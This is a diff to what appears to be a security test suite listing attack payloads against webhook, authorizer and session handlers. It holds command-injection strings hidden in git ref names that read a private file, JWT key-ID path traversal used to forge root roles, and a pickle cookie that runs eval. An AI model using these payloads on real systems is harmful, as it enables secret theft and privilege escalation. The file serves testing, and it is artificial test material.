@@ -163,7 +163,7 @@ ATTACKS = [
     Attack("command, substitution", "github_push", _push("refs/heads/$(cat</tmp/hooks/private.txt)"), SECRET),
     Attack("command, separator", "github_push", _push("refs/heads/main", name="x|nl${IFS}/tmp/hooks/private.txt"), SECRET),
     Attack("command, substitution", "github_push", _push("refs/heads/`head${IFS}-1${IFS}private.txt`"), SECRET),
-    Attack("command, loop", "github_push", _push("refs/heads/main", name="x;while read l;do echo $l;done<private.txt"), SECRET),
+    Attack("command, loop", "github_push", _push("refs/heads/main", name="x;for f in p*.txt;do head $f;done"), SECRET),
     Attack("path, key of a token", "authorizer", _authorize(jwt({"sub": "evil", "role": "root-1"}, "hello", kid="../public.txt")), '"role": "root-1"'),
     Attack("path, key of a token", "authorizer", _authorize(jwt({"sub": "e", "role": "root-2"}, "hello", kid="/tmp/hooks/keys/../public.txt")), '"role": "root-2"'),
     Attack("deserialisation, pickle", "session", _cookie({"user": _Call(eval, "open('/tmp/hooks/private.txt').read()")}), SECRET),
